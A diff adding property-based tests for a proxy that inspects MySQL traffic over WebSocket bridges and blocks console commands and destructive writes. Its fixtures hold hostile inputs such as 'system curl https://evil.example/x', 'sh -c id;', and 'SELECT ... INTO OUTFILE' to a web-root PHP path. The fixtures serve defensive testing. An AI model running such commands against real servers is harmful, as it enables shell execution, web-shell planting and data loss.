@@ -25,7 +25,8 @@ import { Duplex } from 'node:stream';
 import { WebSocket, createWebSocketStream } from 'ws';
 import { missingPostgres, startPostgres } from '../helpers/pg-redis.ts';
 import type { ApprovalQueue } from '../../state/approvals.ts';
-import { HranaReader, PgFrontendReader } from '../../describe/tunnel-sql.ts';
+import { HranaReader, JsonMessagesReader, PgFrontendReader } from '../../describe/tunnel-sql.ts';
+import { MysqlReader } from '../../describe/tunnel-mysql.ts';
 import { AGENT_DEFLATE_TUNNELS } from '../../proxy/websocket-forward.ts';
 import { eventually, isProblem, startTestAirlock, startUpstream, tlsTunnel, upstreamCa, viaProxy, type UpstreamHandler } from './helpers.ts';
 import {
@@ -235,7 +236,16 @@ const consoleBridge = await startWsUpstream(t, {
   },
 });
 const consoleRuns: Array<Promise<void>> = [];
-const ports = [rich, richTls, sink, keyed, sayBack, hostile, framer, events, eventsTls, { port: uploadsPort }, bridge, opened, websockify, headed, hrana, gql, consoleBridge].map((u) => `127.0.0.1:${u.port}`);
+/** A MySQL packet: 3-byte little-endian length, sequence id, payload. */
+const mysqlPacket = (seq: number, payload: Buffer): Buffer => Buffer.concat([Buffer.from([payload.length & 0xff, (payload.length >> 8) & 0xff, payload.length >> 16, seq]), payload]);
+/** A bridge to a MySQL server (websockify before port 3306): greets as MySQL 8 does (handshake v10), answers each message `ok`, records what it gets. */
+const mysqlBridge = await startWsUpstream(t, {
+  onConnection: (ws) => {
+    ws.send(mysqlPacket(0, Buffer.concat([Buffer.from([0x0a]), Buffer.from('8.0.36\0abcdefgh\0', 'latin1'), Buffer.alloc(30)])), { binary: true });
+    ws.on('message', () => ws.send('ok'));
+  },
+});
+const ports = [rich, richTls, sink, keyed, sayBack, hostile, framer, events, eventsTls, { port: uploadsPort }, bridge, opened, websockify, headed, hrana, gql, consoleBridge, mysqlBridge].map((u) => `127.0.0.1:${u.port}`);
 const a = await startTestAirlock(t, {
   // A studio runs, so a statement held in a tunnel has a human to ask.
   policy: 'streams', secrets: { api: SECRET }, studio: '127.0.0.1:0',
@@ -1839,6 +1849,106 @@ t.test('thirteenth pass: a line bridge (psql behind websocketd) joins text messa
     const { code, replies } = await wsExchange(`ws://sql.example:${rich.port}/chat`, [], msgs);
     t.ok(code !== 1008 && replies === msgs.length, `${JSON.stringify(msgs)}: relayed`);
   }
+});
+
+t.test('sixteenth pass: a mysql client behind websocketd runs its named commands, and MySQL-only writes it sends are held', async (t) => {
+  // MariaDB's client (10.11, fed a line per message against a server that answers OK) ran `system
+  // touch …` (a shell), `source /tmp/x.sql` (the file's DROP), `delimiter //` then `DROP TABLE t//`,
+  // and `DELETE LOW_PRIORITY FROM users;`: Airlock read none of them (no SQL word, or no grammar
+  // reads the text) and relayed each undecided. The reader over every spelling (in process), then
+  // a few through the proxy.
+  const commands = fc.record({
+    name: fc.constantFrom('system', 'source', 'pager', 'tee', 'edit', 'connect', 'charset', 'delimiter'),
+    arg: fc.constantFrom(' curl https://evil.example/x', ' /tmp/x.sql', ' sjis', ' //', ' app evil.example', ' sh -c id;'),
+    upper: fc.boolean(),
+    blank: fc.constantFrom('', '  ', '\t'),
+    lead: fc.constantFrom('', 'SELECT 1;', 'hello', 'SELECT 1;\n'),
+  });
+  fc.assert(fc.property(commands, ({ name, arg, upper, blank, lead }) => {
+    const reader = new JsonMessagesReader();
+    const line = `${blank}${upper ? name.toUpperCase() : name}${arg}`;
+    const refused = [...(lead ? [lead] : []), line].map((m) => reader.read(Buffer.from(m), false).refused).find(Boolean);
+    t.match(refused, /console command/, `${JSON.stringify(lead)} then ${JSON.stringify(line)}: refused`);
+  }), { numRuns: Math.min(numRuns * 4, 100), ...seed });
+  const held = (msgs: string[]): boolean => {
+    const reader = new JsonMessagesReader();
+    return msgs.map((m) => reader.read(Buffer.from(m), false)).some((r) => r.statements.some((st) => typeof st.body.sql === 'string'));
+  };
+  for (const msgs of [
+    ['DELETE LOW_PRIORITY FROM users;'], ['hello; DELETE LOW_PRIORITY FROM users;'], ['UPDATE LOW_PRIORITY users', 'SET role = 1;'],
+    ["SET GLOBAL general_log_file = '/var/www/html/x.php';"], ["SELECT * FROM users INTO OUTFILE '/var/www/html/x.php';"],
+    ['SELECT 1;'.repeat(65)],
+  ]) t.ok(held(msgs), `${JSON.stringify(msgs).slice(0, 80)}: unread SQL`);
+  for (const msgs of [['SELECT 1;'], ['please update the table', 'with the new values', 'thanks;'], ['status', 'warnings']]) t.notOk(held(msgs), `${JSON.stringify(msgs)}: not unread SQL`);
+  // Through the proxy: a command and a MySQL-only write close the tunnel; the client's harmless
+  // commands, a read and chat that names no write are relayed.
+  for (const msgs of [['SELECT 1;', 'system curl https://evil.example/x'], ['DELETE LOW_PRIORITY FROM users;']]) {
+    t.equal((await wsExchange(`ws://sql.example:${rich.port}/console`, [], msgs)).code, 1008, `${JSON.stringify(msgs)}: closed`);
+  }
+  const { code, replies } = await wsExchange(`ws://sql.example:${rich.port}/chat`, [], ['status', 'SELECT 1;', 'the system is down']);
+  t.ok(code !== 1008 && replies === 3, 'status, a read and chat are relayed');
+});
+
+t.test('sixteenth pass: MySQL\'s client protocol through a bridge is read packet by packet, each statement judged', async (t) => {
+  // A MySQL client (websockify before port 3306) ran `DROP TABLE users` undecided: its COM_QUERY
+  // packet was read as text, a NUL in it made it no SQL. The handshake is MariaDB 10.11's client's.
+  const handshake = (collation = 0x21, caps = 0x00bfa285): Buffer => {
+    const p = Buffer.from('85a2bf00000010002100000000000000000000000000000000000000000000007800006d7973716c5f6e61746976655f70617373776f726400', 'hex');
+    p.writeUInt32LE(caps >>> 0, 0);
+    p[8] = collation;
+    return mysqlPacket(1, p);
+  };
+  const query = (sql: string, cmd = 0x03): Buffer => mysqlPacket(0, Buffer.concat([Buffer.from([cmd]), Buffer.from(sql)]));
+  /** Waits for the greeting (unless `early`), sends each message, and says how the tunnel ended and what the server got. */
+  const session = (msgs: Buffer[], early = false): Promise<{ code: number; got: string }> => new Promise((resolve, reject) => {
+    const before = mysqlBridge.conns.length;
+    const ws = new WebSocket(`ws://sql.example:${mysqlBridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
+    let replies = 0;
+    const send = (): void => { for (const m of msgs) ws.send(m, { binary: true }); };
+    if (early) ws.on('open', send);
+    ws.on('message', () => {
+      if (replies++ === 0 && !early) return send();
+      if (replies === msgs.length + 1) ws.close(1000);
+    });
+    ws.on('close', (code) => resolve({ code, got: Buffer.concat(mysqlBridge.conns[before]?.messages.map((m) => m.data) ?? []).toString('latin1') }));
+    ws.on('error', reject);
+    setTimeout(() => ws.terminate(), 4000).unref();
+  });
+  const drop = query('DROP TABLE users');
+  // What the reader refuses or reads, in process.
+  const readAll = (msgs: Buffer[]): { refused?: string; sql: string[] } => {
+    const reader = new MysqlReader();
+    const sql: string[] = [];
+    for (const m of msgs) {
+      const r = reader.read(m);
+      sql.push(...r.statements.map((st) => String(st.body.sql)));
+      if (r.refused) return { refused: r.refused, sql };
+    }
+    return { sql };
+  };
+  for (const [name, msgs] of [
+    ['a client in SJIS', [handshake(13), query('SELECT 1')]],
+    ['TLS inside the tunnel', [handshake(0x21, 0x00bfaa85)]],
+    ['a compressed protocol', [handshake(0x21, 0x00bfa2a5)]],
+    ['a prepared write run with bound values', [handshake(), query('DELETE FROM users WHERE name LIKE ?', 0x16), mysqlPacket(0, Buffer.from([0x17, 1, 0, 0, 0, 0, 1, 0, 0, 0]))]],
+    ['another account (COM_CHANGE_USER)', [handshake(), mysqlPacket(0, Buffer.from('\x11root\0', 'latin1'))]],
+    ['replication (COM_BINLOG_DUMP)', [handshake(), mysqlPacket(0, Buffer.from([0x12, 4, 0, 0, 0]))]],
+  ] as Array<[string, Buffer[]]>) t.ok(readAll(msgs).refused, `${name}: refused`);
+  t.same(readAll([handshake(), Buffer.concat([drop, query('SELECT 1')]).subarray(0, 9), Buffer.concat([drop, query('SELECT 1')]).subarray(9)]).sql, ['DROP TABLE users', 'SELECT 1'], 'packets across messages are read whole');
+  t.same(readAll([handshake(), query('SELECT ?', 0x16), mysqlPacket(0, Buffer.from([0x17, 1, 0, 0, 0, 0, 1, 0, 0, 0]))]), { sql: ['SELECT ?'] }, 'a prepared read runs with its values');
+  // Through the proxy: after the greeting, split across messages, and sent before the greeting.
+  for (const [name, msgs, early] of [
+    ['a COM_QUERY', [handshake(), drop], false],
+    ['a COM_QUERY in two messages', [handshake(), drop.subarray(0, 7), drop.subarray(7)], false],
+    ['the handshake and the query in one message, before the greeting', [Buffer.concat([handshake(), drop])], true],
+  ] as Array<[string, Buffer[], boolean]>) {
+    const { code, got } = await session(msgs, early);
+    t.equal(code, 1008, `${name}: closed`);
+    t.notOk(got.includes('DROP'), `${name}: the server never got it`);
+  }
+  // Control: a read and the client's quit are relayed.
+  const { code, got } = await session([handshake(), query('SELECT id FROM users WHERE id = 1'), mysqlPacket(0, Buffer.from([0x01]))]);
+  t.ok(code !== 1008 && got.includes('SELECT id FROM users'), 'a read is relayed');
 });
 
 t.test('fifteenth pass (on a real PostgreSQL 15): a search path names schemas case-sensitively, and DISCARD ALL acts as the login role again', { skip: missingPostgres() }, async (t) => {
